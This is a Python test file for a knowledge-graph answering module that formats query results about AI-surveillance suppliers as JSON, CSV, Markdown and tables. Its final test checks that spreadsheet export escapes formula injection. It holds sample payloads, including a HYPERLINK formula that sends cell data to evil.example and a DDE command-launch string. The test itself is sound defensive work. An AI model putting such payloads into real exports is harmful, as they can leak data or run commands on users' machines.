"""Answers: rows with labels and types, and the receipts of their claims, in four formats."""

import csv
import io
import json

import pyoxigraph as ox
import pytest

from kg.answering import answer
from kg.answering.answer import Answer, Thing
from kg.namespace import BASE, curie, iri
from kg.query import query
from tests.fixtures import invented

TEXT = """
SELECT ?state (1.5 AS ?share) ?nothing ?text (GROUP_CONCAT(DISTINCT STR(?claim); SEPARATOR=" ") AS ?claims) WHERE {
  ?supply <https://w3id.org/ai-surveillance/ontology#recipient> ?state .
  ?claim <https://w3id.org/ai-surveillance/ontology#about> ?supply .
  BIND("a|b\\n<c>" AS ?text)
} GROUP BY ?state ?nothing ?text ORDER BY ?state
"""
ADA, BOR = BASE + "state/ada", BASE + "state/bor"


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> ox.Store:
    """Return the invented world."""
    return invented.tiny(tmp_path_factory.mktemp("tiny"))


@pytest.fixture(scope="module")
def cited(tiny: ox.Store) -> Answer:
    """Return an answer of two rows with citations."""
    return answer.read(tiny, query.run(tiny, TEXT), "claims", cite=True)


@pytest.fixture(scope="module")
def plain(tiny: ox.Store) -> Answer:
    """Return the same answer without citations."""
    return answer.read(tiny, query.run(tiny, TEXT), "claims")


def test_iri_carries_its_label_and_type(plain: Answer) -> None:
    assert plain.rows[0]["state"] == Thing(ADA, "Adania", "ais:State")


def test_iri_without_a_label_carries_its_curie(tiny: ox.Store) -> None:
    found = answer.read(tiny, query.run(tiny, f"SELECT ?x {{ VALUES ?x {{ <{iri('vendor:none')}> }} }}"), None)
    assert found.rows == [{"x": Thing(iri("vendor:none"), "vendor:none", "")}]


def test_claims_are_taken_out_of_the_rows(plain: Answer) -> None:
    assert plain.columns == ("state", "share", "nothing", "text")
    assert [len(claims) for claims in plain.claims] == [2, 1]


def test_notes_are_the_receipts_of_the_claims_of_the_rows(cited: Answer, plain: Answer) -> None:
    assert set(cited.notes) == {claim for claims in cited.claims for claim in claims}
    assert plain.notes == {}


def test_answer_without_a_column_of_claims_has_none(tiny: ox.Store) -> None:
    assert answer.read(tiny, query.run(tiny, "SELECT ?s { ?s ?p ?o } LIMIT 3"), None).claims == []


# JSON


def test_json_rows_carry_iri_label_type_and_values(plain: Answer) -> None:
    first = json.loads(answer.to_json(plain))[0]
    assert first["state"] == {"iri": ADA, "label": "Adania", "type": "ais:State"}
    assert (first["share"], first["nothing"], first["text"]) == (1.5, None, "a|b\n<c>")


def test_json_claims_are_iris_or_with_citations_receipts(plain: Answer, cited: Answer) -> None:
    claims = json.loads(answer.to_json(plain))[0]["claims"]
    receipts = json.loads(answer.to_json(cited))["rows"][0]["claims"]
    assert [receipt["claim"] for receipt in receipts] == claims
    assert {"source", "title", "origin", "place", "modality", "voice", "lower", "upper"} <= receipts[0].keys()


def test_json_of_no_rows_is_an_empty_list() -> None:
    assert json.loads(answer.to_json(Answer(("a",), [], [], {}))) == []


# CSV


def test_csv_rows_hold_full_iris_and_survive_a_reader(plain: Answer) -> None:
    rows = list(csv.reader(io.StringIO(answer.to_csv(plain), newline="")))
    assert rows == [
        ["state", "share", "nothing", "text"],
        [ADA, "1.5", "", "a|b\n<c>"],
        [BOR, "1.5", "", "a|b\n<c>"],
    ]


def test_csv_with_citations_has_a_last_column_of_claims(cited: Answer) -> None:
    header, first, _ = csv.reader(io.StringIO(answer.to_csv(cited), newline=""))
    assert header[-1] == "claims"
    assert first[-1].split(" ") == list(cited.claims[0])


def test_csv_of_no_rows_is_its_header() -> None:
    assert answer.to_csv(Answer(("a", "b"), [], [], {})) == "a,b\n"


# Markdown


def test_markdown_is_a_table_whose_cells_are_escaped(plain: Answer) -> None:
    assert answer.to_markdown(plain) == (
        "| state | share | nothing | text |\n| --- | --- | --- | --- |\n"
        "| state:ada | 1.5 |  | a\\|b <c> |\n| state:bor | 1.5 |  | a\\|b <c> |\n"
    )


def test_markdown_with_citations_has_a_footnote_for_every_mark(cited: Answer) -> None:
    text = answer.to_markdown(cited)
    for number, claim in enumerate((claim for claims in cited.claims for claim in claims), 1):
        assert text.count(f"[^{number}]") == 2
        assert f"[^{number}]: {cited.notes[claim]}" in text


# Table


def test_table_is_aligned_with_numbers_to_the_right() -> None:
    rows: list[dict[str, answer.Cell]] = [{"name": "Acme", "n": 5}, {"name": "Be", "n": 120}]
    assert answer.to_table(Answer(("name", "n"), rows, [], {})) == (
        "name    n\n----  ---\nAcme    5\nBe    120\n(2 rows)\n"
    )


def test_table_of_one_row_says_row() -> None:
    assert answer.to_table(Answer(("a",), [{"a": 1}], [], {})).endswith("(1 row)\n")


def test_table_of_no_rows_is_its_header() -> None:
    assert answer.to_table(Answer(("a",), [], [], {})) == "a\n-\n(0 rows)\n"


def test_table_with_citations_numbers_its_notes(cited: Answer) -> None:
    lines = answer.to_table(cited).splitlines()
    assert lines[0].split() == ["state", "share", "nothing", "text", "notes"]
    claims = [claim for row in cited.claims for claim in row]
    assert lines[-5:-2] == [f"[{number}] {cited.notes[claim]}" for number, claim in enumerate(claims, 1)]
    assert lines[-2:] == ["", cited.license]


def test_row_of_a_table_is_one_line_whatever_its_cells_hold(cited: Answer) -> None:
    assert len(answer.to_table(cited).splitlines()) == 2 + 2 + 1 + 1 + 3 + 2


@pytest.mark.parametrize(
    ("numbers", "text"),
    [([], ""), ([4], "[4]"), ([1, 2, 3, 7], "[1–3] [7]"), ([1, 3, 4], "[1] [3–4]")],
    ids=str,
)
def test_runs_of_notes_are_shortened(numbers: list[int], text: str) -> None:
    assert answer._ranges(numbers) == text


def test_csv_for_a_spreadsheet_begins_with_a_byte_order_mark() -> None:
    found = Answer(("label",), [{"label": "Côte d'Ivoire"}], [], {})
    assert answer.to_spreadsheet(found).encode() == b"\xef\xbb\xbf" + answer.to_csv(found).encode()


# On the released graph


@pytest.mark.parametrize("format_", answer.FORMATS)
def test_question_of_the_released_graph_is_answered_in_every_format(released: ox.Store, format_: str) -> None:
    question = query.find("suppliers-of-state")
    found = answer.read(released, question.run(released), question.claims, cite=True)
    text = answer.FORMATS[format_](found)
    assert "huawei" in text
    assert (BASE if format_ in ("json", "csv") else "vendor:huawei") in text


def test_every_claim_that_an_answer_carries_has_a_receipt(released: ox.Store) -> None:
    for name in ("suppliers-of-state", "reported-figures", "profile-of-vendor"):
        question = query.find(name)
        found = answer.read(released, question.run(released), question.claims, cite=True)
        assert {curie(claim) for claims in found.claims for claim in claims} == set(map(curie, found.notes))
        assert [row for row, claims in zip(found.rows, found.claims, strict=True) if not claims] == []


def test_table_cuts_a_long_cell_and_csv_does_not() -> None:
    long = Answer(("text",), [{"text": "x" * 200}], [], {})
    assert max(map(len, answer.to_table(long).splitlines())) == answer.WIDEST
    assert "x" * 200 in answer.to_csv(long)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd", True),
        ("@SUM(1+1)*cmd", True),
        ("\t=1+1", True),
        ("-2.5e3", False),
        ("+7", False),
        ("Acme = Beta", False),
        ("", False),
    ],
)
def test_no_cell_for_a_spreadsheet_is_a_formula(cell: str, written: bool) -> None:
    told = answer.Answer(("x", "=y"), [{"x": cell, "=y": "a"}], [()], {})
    head, row = csv.reader(io.StringIO(answer.to_spreadsheet(told).removeprefix("\ufeff")))
    assert head == ["x", "'=y"]
    assert row == [f"'{cell}" if written else cell, "a"]
    assert list(csv.reader(io.StringIO(answer.to_csv(told))))[1] == [cell, "a"]
